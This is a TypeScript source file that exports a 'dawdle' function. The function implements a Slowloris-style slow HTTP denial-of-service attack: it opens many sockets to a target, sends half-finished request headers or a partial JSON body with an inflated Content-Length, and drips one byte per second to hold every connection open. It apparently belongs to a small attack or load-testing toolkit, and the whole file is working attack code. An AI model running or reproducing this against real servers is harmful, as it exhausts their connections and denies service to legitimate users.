import { connect, type Socket } from 'node:net';
import { Counts, steadily, type Dawdling, type Going } from './attack.ts';

/** Half a head, and a whole one with half a body. */
const beginnings = [
  'GET /api/meetings HTTP/1.1\r\nHost: x\r\nX-Slow: ',
  'POST /api/pair HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 9000\r\n\r\n{',
];

export function dawdle(url: string, { lines, perSecond }: Dawdling): Going {
  const { hostname, port } = new URL(url);
  const counts = new Counts();
  const open = new Set<Socket>();
  let no = 0;
  const say = (): void => {
    if (open.size >= lines) return;
    no += 1;
    const line = connect(Number(port), hostname, () => counts.add('opened'));
    open.add(line);
    line.on('error', () => undefined).resume();
    line.once('close', () => open.delete(line));
    line.write(beginnings[no % beginnings.length] ?? '');
  };
  const stop = steadily(perSecond, say);
  const stopWriting = steadily(1, () => {
    for (const line of open) line.write('a');
  });
  return {
    end: () => {
      stop();
      stopWriting();
      counts.add('held open', open.size);
      for (const line of open) line.destroy();
      return Promise.resolve(counts.tally);
    },
  };
}
